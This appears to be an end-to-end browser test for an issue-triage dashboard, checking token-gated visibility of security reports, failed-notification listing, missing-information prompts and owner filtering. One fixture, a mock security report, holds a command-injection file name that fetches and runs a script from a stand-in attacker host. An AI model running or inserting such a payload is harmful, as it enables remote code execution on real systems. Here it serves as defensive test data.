import { startFakeGithub, type FakeGithub } from '../support/fake-github';
import { startNotificationReceiver, type NotificationReceiver } from '../support/notification-receiver';
import { startStack, type Stack } from '../support/stack';
import { eventually, newRepo, openedPayload } from '../github/support';
import { launchBrowser, openPage, screenshot, type Browser } from './browser';

// The triage assistant on the dashboard, in a real browser, under public read: a security report is seen
// only with the token, its detail shows the rules that fired, and the Notifications panel shows what
// failed to reach the team.

const SECRET = 'web-notify-secret';
let stack: Stack;
let github: FakeGithub;
let receiver: NotificationReceiver;
let browser: Browser;

const INJECTION = { title: 'Command injection in the thumbnail job', body: 'File names go to a shell: uploading `$(curl attacker.example|sh).png` runs that command on the worker. PoC attached.' };

beforeAll(async () => {
  github = await startFakeGithub();
  // People the test does not name are outsiders here (the assistant asks whether an author may write).
  github.state.defaultRole = 'read';
  receiver = await startNotificationReceiver(SECRET);
  stack = await startStack({ env: { GITHUB_TOKEN: 'test-token', GITHUB_API_URL: github.url, DASHBOARD_PUBLIC_READ: '1', NOTIFY_WEBHOOK_URL: receiver.url, NOTIFY_WEBHOOK_SECRET: SECRET } });
  browser = await launchBrowser();
}, 240_000);
afterAll(async () => {
  await browser?.close();
  await stack?.stop();
  await receiver?.close();
  await github?.close();
});

test('a security report is on the dashboard only for token holders, with its rules; failed notifications are listed', async () => {
  const repo = newRepo('web-security', github);
  github.setFile(repo.repoFullName, '.github/triageflow.yml', 'security: {}\n');
  receiver.failNext(410);
  await stack.sendWebhook('issues', openedPayload(repo, 1, INJECTION.title, INJECTION.body));
  await stack.sendWebhook('issues', openedPayload(repo, 2, 'Typo in the README', 'The word "recieve" is misspelt in the install section.'));
  await stack.waitForIssue(repo.repoFullName, 1, (i) => i.triage !== null);
  await stack.waitForIssue(repo.repoFullName, 2, (i) => i.triage !== null);
  await eventually(async () => receiver.received.filter((r) => r.body?.triageflow?.repo === repo.repoFullName), (r) => r.length === 1, 'the refused notification');

  const anonymous = await openPage(browser, `${stack.baseUrl}/?repo=${encodeURIComponent(repo.repoFullName)}`);
  await anonymous.page.locator(`#issues-body tr[data-key="${repo.repoFullName.toLowerCase()}#2"]`).waitFor();
  expect(await anonymous.page.locator('#issues-body tr').count()).toBe(1);
  expect(await anonymous.page.locator('#issues-body').textContent()).not.toContain('injection');
  await anonymous.page.goto(`${stack.baseUrl}/?issue=${encodeURIComponent(`${repo.repoFullName}/1`)}`);
  await anonymous.page.getByText('Issue not found').waitFor();
  expect(anonymous.problems).toEqual([]);
  await anonymous.page.close();

  const holder = await openPage(browser, `${stack.baseUrl}/?repo=${encodeURIComponent(repo.repoFullName)}&issue=${encodeURIComponent(`${repo.repoFullName}/1`)}`, { token: stack.dashboardToken });
  const section = holder.page.locator('#detail [data-section="assistant"]');
  await section.waitFor();
  expect(await section.textContent()).toMatch(/Security report.*Rules: .*an injection/);
  expect(await holder.page.locator('#issues-body tr').count()).toBe(2);
  await section.scrollIntoViewIfNeeded();
  await screenshot(holder.page, 'assistant-security');

  expect(await holder.page.locator('#notifications-failed').textContent()).toMatch(/^[1-9]\d*$/);
  await holder.page.locator('#notifications-toggle').click();
  const failed = holder.page.locator('#notifications-list .notifications__item--failed', { hasText: `${repo.repoFullName}#1` });
  await failed.waitFor();
  expect(await failed.textContent()).toMatch(/security.*failed: The notification receiver answered 410/);
  await screenshot(holder.page, 'assistant-notifications');
  expect(holder.problems).toEqual([]);
});

test('the Assistant section explains what is missing and who owns the issue; the owner filter narrows the list', async () => {
  const repo = newRepo('web-owners', github);
  github.setFile(repo.repoFullName, '.github/triageflow.yml', 'dryRun: false\nconfidenceThreshold: 0\nmissingInfo:\n  bug: [steps, version]\nowners:\n  - match: {paths: [src/parser/]}\n    assign: [ana]\n    team: parsing\n');
  const bare = { title: '[Bug] Parser crashes with TypeError', body: 'It crashes in src/parser/lexer.ts with a TypeError. I expected it to parse.' };
  github.issue(repo.repoFullName, 1, bare);
  github.issue(repo.repoFullName, 2, { title: 'Docs typo', body: 'The README says recieve.' });
  await stack.sendWebhook('issues', openedPayload(repo, 1, bare.title, bare.body));
  await stack.sendWebhook('issues', openedPayload(repo, 2, 'Docs typo', 'The README says recieve.'));
  await eventually(async () => github.assignees(repo.repoFullName, 1), (a) => a.length === 1, 'the owner assigned');
  await stack.waitForIssue(repo.repoFullName, 2, (i) => i.triage !== null);

  const { page, problems } = await openPage(browser, `${stack.baseUrl}/?repo=${encodeURIComponent(repo.repoFullName)}&issue=${encodeURIComponent(`${repo.repoFullName}/1`)}`, { token: stack.dashboardToken });
  const section = page.locator('#detail [data-section="assistant"]');
  await section.waitFor();
  const text = await section.textContent();
  expect(text).toMatch(/Missing information.*Steps to reproduce — No steps to reproduce.*Version — No version/);
  expect(text).toMatch(/Asked the author .* waiting for the author/);
  expect(text).toMatch(/Team\s*parsing.*Matched by\s*path src\/parser\/lexer\.ts.*Assigned\s*ana/);
  await section.scrollIntoViewIfNeeded();
  await screenshot(page, 'assistant-missing-info');

  expect(await page.locator('#issues-body tr').count()).toBe(2);
  await page.locator('#filters input[name="owner"]').fill('parsing');
  await page.locator('#filters input[name="owner"]').press('Enter');
  await page.locator('#issues-body tr').nth(1).waitFor({ state: 'detached' });
  expect(await page.locator('#issues-body tr').count()).toBe(1);
  expect(await page.locator('#issues-body').textContent()).toContain('Parser crashes');
  expect(page.url()).toContain('owner=parsing');
  expect(await page.locator('#owner-options option[value="parsing"]').count()).toBe(1);
  await screenshot(page, 'assistant-owner-filter');
  expect(problems).toEqual([]);
});
